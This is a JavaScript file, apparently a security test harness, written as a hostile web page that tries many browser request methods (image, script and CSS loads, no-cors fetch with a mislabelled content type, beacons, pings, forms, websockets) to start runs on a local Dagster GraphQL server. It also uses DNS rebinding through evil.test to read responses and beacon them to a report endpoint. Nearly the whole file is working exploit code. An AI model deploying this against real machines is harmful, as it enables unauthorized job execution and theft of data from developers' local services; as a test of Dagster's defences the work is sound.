// A page of another site that tries every way a browser knows to start a run in Dagster, or to read from it.
// TARGETS: [{door, port, launch: {query, variables by way}}]; REPORT: where it says what it could read.
"use strict";
const read = {};
const later = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));

function address(target, way) {
  const tagged = target.variables.replaceAll("WAY", `${target.door}: ${way}`);
  const query = `query=${encodeURIComponent(target.query)}&variables=${encodeURIComponent(tagged)}`;
  return `http://localhost:${target.port}/graphql?${query}`;
}

function body(target, way) {
  const variables = JSON.parse(target.variables.replaceAll("WAY", `${target.door}: ${way}`));
  return JSON.stringify({ query: target.query, variables });
}

function add(tag, attributes) {
  const element = document.createElement(tag);
  Object.assign(element, attributes);
  document.body.append(element);
  return element;
}

function form(target, way, method, enctype, goal) {
  const frame = goal === "_blank" ? null : add("iframe", { name: `${target.door} ${way}` });
  const made = add("form", { method, enctype, target: frame ? frame.name : goal, action: address(target, way) });
  for (const [name, value] of new URL(made.action).searchParams) {
    made.append(Object.assign(document.createElement("input"), { name, value }));
  }
  made.submit();
}

function websocket(target) {
  const socket = new WebSocket(`ws://localhost:${target.port}/graphql`, "graphql-ws");
  socket.onopen = () => {
    socket.send('{"type": "connection_init"}');
    const payload = JSON.parse(body(target, "websocket"));
    socket.send(JSON.stringify({ type: "start", id: "1", payload }));
  };
  socket.onmessage = (message) => { read[`${target.door}: websocket`] = message.data; };
}

const SIMPLE = { method: "POST", mode: "no-cors" };
const LYING = { ...SIMPLE, headers: { "Content-Type": "text/plain;x=application/json" } };
const WAYS = {
  "img": (target, way) => add("img", { src: address(target, way) }),
  "script": (target, way) => add("script", { src: address(target, way) }),
  "css image": (target, way) => add("div", { style: `background: url("${address(target, way)}")`, innerText: "x" }),
  "event source": (target, way) => new EventSource(address(target, way)),
  "fetch": (target, way) => fetch(address(target, way)),
  "fetch POST": (target, way) => fetch(address(target, way), SIMPLE),
  "fetch POST lying": (target, way) =>
    fetch(`http://localhost:${target.port}/graphql`, { ...LYING, body: body(target, way) }),
  "beacon": (target, way) => navigator.sendBeacon(address(target, way), "x"),
  "ping": (target, way) => add("a", { href: "#there", ping: address(target, way) }).click(),
  "form": (target, way) => form(target, way, "POST", "application/x-www-form-urlencoded"),
  "form of files": (target, way) => form(target, way, "POST", "multipart/form-data"),
  "form of text": (target, way) => form(target, way, "POST", "text/plain"),
  "form in a window": (target, way) => form(target, way, "POST", "application/x-www-form-urlencoded", "_blank"),
};
// A browser sends a question before these, or Dagster shows its own page of GraphQL for them: they spend nowhere.
const HARMLESS = {
  "fetch JSON": (target, way) => fetch(`http://localhost:${target.port}/graphql`, {
    method: "POST", headers: { "Content-Type": "application/json" }, body: body(target, way),
  }),
  "beacon lying": (target, way) => navigator.sendBeacon(
    `http://localhost:${target.port}/graphql`,
    new Blob([body(target, way)], { type: LYING.headers["Content-Type"] }),
  ),
  "iframe": (target, way) => add("iframe", { src: address(target, way) }),
  "form by GET": (target, way) => form(target, way, "GET", "application/x-www-form-urlencoded"),
  "window": (target, way) => window.open(address(target, way)),
  "websocket": websocket,
};

async function tried(go, target, way) {
  try {
    await go(target, way);
  } catch { /* refused, or unreadable */ }
}

async function attack() {
  for (const target of TARGETS) {
    for (const [way, go] of Object.entries({ ...WAYS, ...HARMLESS })) {
      tried(go, target, way); // nothing waits for an answer: it need not be readable
    }
    for (const path of ["/server_info", "/graphql?query={__typename}"]) {
      try {
        read[`${target.door}: fetch ${path}`] = await (await fetch(`http://localhost:${target.port}${path}`)).text();
      } catch { /* unreadable, as it should be */ }
    }
    // The name of this page leads to Dagster's port meanwhile: for the browser it is one site.
    add("iframe", { src: `http://evil.test:${target.port}/rebound.html` });
  }
}

// In the rebound frame, whose site has Dagster's port: what a page of the same site may do.
async function rebound() {
  const [target] = TARGETS.filter((each) => location.port === String(each.port));
  const headers = { "Content-Type": "application/json" };
  const way = "rebinding";
  let said;
  try {
    said = await (await fetch("/graphql", { method: "POST", headers, body: body(target, way) })).text();
  } catch (error) {
    said = String(error);
  }
  parent.postMessage([`${target.door}: ${way}`, said], "*");
}

let rebounds = 0;
window.onmessage = async (message) => {
  read[message.data[0]] = message.data[1];
  rebounds += 1;
  if (rebounds === TARGETS.length) {
    await later(500); // websockets have had their time meanwhile
    navigator.sendBeacon("/report", JSON.stringify({ read, ways: Object.keys(WAYS) }));
  }
};

if (location.pathname === "/rebound.html") rebound();
else attack();
